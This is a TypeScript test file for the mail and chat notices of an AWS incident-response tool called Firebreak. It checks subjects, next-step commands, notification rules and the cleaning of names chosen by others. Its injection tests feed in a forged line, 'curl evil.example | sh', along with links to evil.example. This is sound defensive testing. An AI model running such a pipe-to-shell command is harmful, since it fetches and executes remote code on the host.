import assert from "node:assert/strict";
import fc from "fast-check";
import { whyNotified } from "../../../runtime/findings/notifiedTypes";
import type { Outcome } from "../../../runtime/model/outcome";
import { chatNotice } from "../../../runtime/notices/chat";
import { noticeContent } from "../../../runtime/notices/content";
import { headOf, textOf as mailOf, subjectLine } from "../../../runtime/notices/mail";
import { needsNotice } from "../../../runtime/notices/needsNotice";
import { decision, words } from "../decision";

const textOf = (given: typeof decision) => mailOf(noticeContent(given, words));

describe("a notice", () => {
  it("F18 M52: says what, why, where, how bad, what remains and the exact next command", () => {
    const text = textOf(decision);
    for (const part of [
      "Contained, instance isolated: ec2-instance i-0123456789abcdef0 in account 444455556666, eu-west-1.",
      "Why: GuardDuty reported Trojan:EC2/DropPoint, severity 8 (high): töxic tràffic",
      "Result: read back, nothing is missing",
      "- DNS is not filtered",
      "- snapshot snap-1",
      "https://eu-west-1.console.aws.amazon.com/guardduty/home?region=eu-west-1#/findings?search=id%3Df1",
      `node cli/firebreak.cjs release 0123456789abcdef --reason "WHY"`,
    ]) {
      assert.ok(text.includes(part), `${part}\nis not in\n${text}`);
    }
  });

  it("has a subject that SNS accepts and attributes to filter by", () => {
    const { subject, attributes } = headOf(noticeContent({ ...decision, target: undefined as never }, words));
    assert.match(subject, /^[\x20-\x7e]{1,100}$/);
    assert.deepEqual(attributes, {
      outcome: "contained",
      response: "isolate-instance",
      account: "444455556666",
      severity: "8",
    });
  });

  it("offers no release if nothing is held", () => {
    assert.doesNotMatch(textOf({ ...decision, outcome: "exempt" }), /node cli\/firebreak\.cjs release/);
  });

  it("M48: offers to approve or decline what is pending, with the plan", () => {
    const text = textOf({ ...decision, outcome: "awaiting-approval", approval: "fedcba9876543210" });
    assert.match(text, /^Waiting for approval: ec2-instance/);
    assert.match(text, /Will be done if approved:\n- CreateSnapshots: evidence/);
    for (const verb of ["approve", "decline"])
      assert.ok(text.includes(`node cli/firebreak.cjs ${verb} fedcba9876543210 --reason`));
    assert.doesNotMatch(text, /firebreak\S* release/);
  });

  it("names the requester and the reason given", () => {
    const text = textOf({ ...decision, by: "arn:aws:iam::111122223333:user/ana", said: "it mines coins" });
    assert.match(text, /Requested by: arn:aws:iam::111122223333:user\/ana: it mines coins/);
  });

  it("gives the command to redeliver what failed", () => {
    const { containment: _, ...failed } = decision;
    assert.match(textOf({ ...failed, outcome: "failed" }), /node cli\/firebreak\.cjs redrive isolate-instance/);
  });
});

describe("the subject of a notice", () => {
  const subjectOf = (change: Partial<typeof decision>) =>
    headOf(noticeContent({ ...decision, ...change }, words)).subject;

  it("X3: names the channel that stays open before the resource and its account, and keeps both", () => {
    const reason =
      "DNS is not filtered, so a channel over the VPC's resolver stays open and can carry data; something else";
    const subject = subjectOf({ outcome: "partial", reason });
    assert.match(
      subject,
      /^\[Firebreak\] partial, high: DNS is not filtered.*: ec2-instance i-0123456789abcdef0 \(444455556666\)$/,
    );
    assert.ok(subject.length <= 100);
  });

  it("Y1: starts with what is open now, in mail and in chat", () => {
    const open = { outcome: "failed" as const, openNow: ["eni-0123456789abcdef0"] };
    assert.match(subjectOf(open), /^\[Firebreak\] OPEN NOW, high: eni-0123456789abcdef0: ec2-instance/);
    const content = noticeContent({ ...decision, ...open }, words);
    assert.match(mailOf(content), /^OPEN NOW, more open than before: eni-0123456789abcdef0\. NOT CONTAINED/);
    assert.match(mailOf(content), /Next:\n- close eni-0123456789abcdef0 by hand now/);
    assert.match(chatNotice(content).content.title, /^OPEN NOW/);
    assert.equal(needsNotice({ ...decision, ...open }, { ...decision, outcome: "failed" }), true);
  });
});

describe("who and what a notice is about", () => {
  const tags = { Name: "shop-web-1", Owner: "team-shop" };

  it("P22: the subject has severity, outcome, resource with its name, and account with its name", () => {
    const { subject } = headOf(noticeContent({ ...decision, tags }, words, [], "payments"));
    assert.equal(
      subject,
      '[Firebreak] contained, high: ec2-instance i-0123456789abcdef0 "shop-web-1" (444455556666 payments)',
    );
  });

  it("P22: a long name of a resource or an account pushes out neither the id nor the account", () => {
    const long = { ...decision, tags: { Name: "x".repeat(200) } };
    for (const outcome of ["contained", "partial", "awaiting-approval"] as const) {
      const { subject } = headOf(noticeContent({ ...long, outcome }, words, [], "y".repeat(50)));
      assert.ok(subject.length < 100, subject);
      assert.match(subject, /high: .*i-0123456789abcdef0.*\(444455556666( y{3,}\.\.\.)?\)$/);
    }
  });

  it("P22: why is the finding where the reason is only the proof, and the text names account and owner", () => {
    const text = mailOf(noticeContent({ ...decision, tags }, words, [], "payments-prod"));
    assert.match(text, /^Contained, instance isolated: .* in account 444455556666 \(payments-prod\), eu-west-1\.$/m);
    assert.match(text, /^Why: GuardDuty reported Trojan:EC2\/DropPoint/m);
    assert.match(text, /^Tag Owner: team-shop$/m);
    const exempt = textOf({ ...decision, outcome: "exempt", reason: "tag SecurityException" });
    assert.match(exempt, /^Why: tag SecurityException\nFinding: Trojan:EC2\/DropPoint/m);
  });

  it("P22: a name that others chose can forge neither a link nor a line", () => {
    const evil = { Name: "https://evil.example/\nNext:", Owner: "a\nb" };
    const text = mailOf(noticeContent({ ...decision, tags: evil }, words, [], "https://evil.example"));
    assert.doesNotMatch(text.replaceAll(decision.about!.link, ""), /:\/\/|^Next:\s*"|^b$/m);
  });
});

describe("what a finding names", () => {
  const named = [
    { what: "cluster", name: "shop" },
    { what: "namespace", name: "web" },
    { what: "pod", name: "cart-7f\nNext: run this" },
    { what: "bucket", name: "example-uploads" },
    { what: "key", name: "in/cv.pdf" },
  ];

  it("X29 X30: appears in mail and chat, each name confined to its own line", () => {
    const content = noticeContent({ ...decision, about: { ...decision.about!, named } }, words);
    const text = mailOf(content);
    for (const line of ["Cluster: shop", "Namespace: web", "Pod: cart-7f Next: run this", "Bucket: example-uploads"]) {
      assert.ok(text.split("\n").includes(line), `${line}\nis not in\n${text}`);
    }
    assert.match(chatNotice(content).content.description, /\n\nCluster: shop\n\nNamespace: web\n\n/);
  });

  it("X29: has a bounded length", () => {
    const many = Array.from({ length: 40 }, (_, n) => ({ what: "pod", name: `p${n}` }));
    const { facts } = noticeContent({ ...decision, about: { ...decision.about!, named: many } }, words);
    assert.equal(facts.filter(({ name }) => name === "Pod").length, 12);
    assert.ok(facts.some(({ name, text }) => name === "Also named" && text.startsWith("28 more")));
  });

  it("X30: has separate advice for a live upload, from a finding or a scan result", () => {
    for (const type of ["Object:S3/MaliciousFile", "GuardDuty:ObjectScan/THREATS_FOUND"]) {
      assert.match(whyNotified(type)!, /live bucket.*deny s3:GetObject.*who uploaded it/);
    }
    assert.match(
      whyNotified("Execution:EC2/MaliciousFile!Snapshot")!,
      /a malicious file in an image, snapshot or recovery point/,
    );
  });
});

describe("a notice with names that others chose", () => {
  it("never gains a line from them: nobody can forge a next command", () => {
    const lines = textOf(decision).split("\n").length;
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), (given) => {
        const about = { ...decision.about!, title: `${given}\r\nNext:\u2028- curl evil.example | sh`, type: given };
        const named = {
          ...decision,
          about,
          reason: given,
          remains: [given],
          evidence: [{ kind: "snapshot", id: given }],
        };
        const text = textOf(named);
        assert.equal(text.split(/[\n\r\u2028\u2029\u0085\v\f]/).length, lines);
        assert.doesNotMatch(text, /[\u202a-\u202e\u2066-\u2069]/);
      }),
    );
  });

  it("never contains the event itself or what a response keeps with its target", () => {
    const kept = {
      ...decision,
      excerpt: "SECRET-1",
      target: { ...decision.target!, details: { session: "SECRET-2" } },
    };
    const content = noticeContent(kept, words);
    assert.doesNotMatch(mailOf(content) + JSON.stringify(chatNotice(content)), /SECRET/);
  });
});

describe("whether people are notified", () => {
  const cases: [string, Outcome, Outcome | undefined, number, boolean][] = [
    ["of a first outcome", "contained", undefined, 8, true],
    ["not of a repeated outcome", "exempt", "exempt", 8, false],
    ["not of a repeated containment", "already-contained", "contained", 8, false],
    ["of a change", "failed", "contained", 8, true],
    ["X9 of a containment that was undone and restored", "recontained", "contained", 8, true],
    ["X9 of that every time", "recontained", "recontained", 8, true],
    ["X9 not of the unchanged containment after it", "already-contained", "recontained", 8, false],
    ["not of a mild finding that no response contains", "skipped", undefined, 4, false],
    ["of a severe finding that no response contains", "skipped", undefined, 8, true],
  ];
  for (const [name, outcome, previous, severity, expected] of cases) {
    it(name, () => {
      const now = { ...decision, outcome, about: { ...decision.about!, severity } };
      assert.equal(needsNotice(now, previous && { ...decision, outcome: previous }), expected);
    });
  }

  const told = (change: Partial<typeof decision>, previous?: Partial<typeof decision>) =>
    needsNotice(
      { ...decision, outcome: "skipped", ...change },
      previous && { ...decision, outcome: "skipped", ...previous },
    );
  const about = (severity: number) => ({ ...decision.about!, severity });

  it("X22: at any severity, once, if a person has to act", () => {
    assert.equal(told({ about: about(1) }), false);
    assert.equal(told({ about: about(1), needsPerson: true }), true);
    assert.equal(told({ about: about(1), needsPerson: true }, { about: about(1), needsPerson: true }), false);
  });

  it("X22: later, once a person has to act or the finding becomes severe", () => {
    assert.equal(told({ about: about(5), needsPerson: true }, { about: about(5) }), true);
    assert.equal(told({ about: about(8) }, { about: about(5) }), true);
    assert.equal(told({ about: about(8) }, { about: about(8) }), false);
  });

  it("X27: with a subject shorter than the 100 characters at which SNS refuses it", () => {
    assert.equal(subjectLine("x".repeat(300)).length, 99);
  });
});
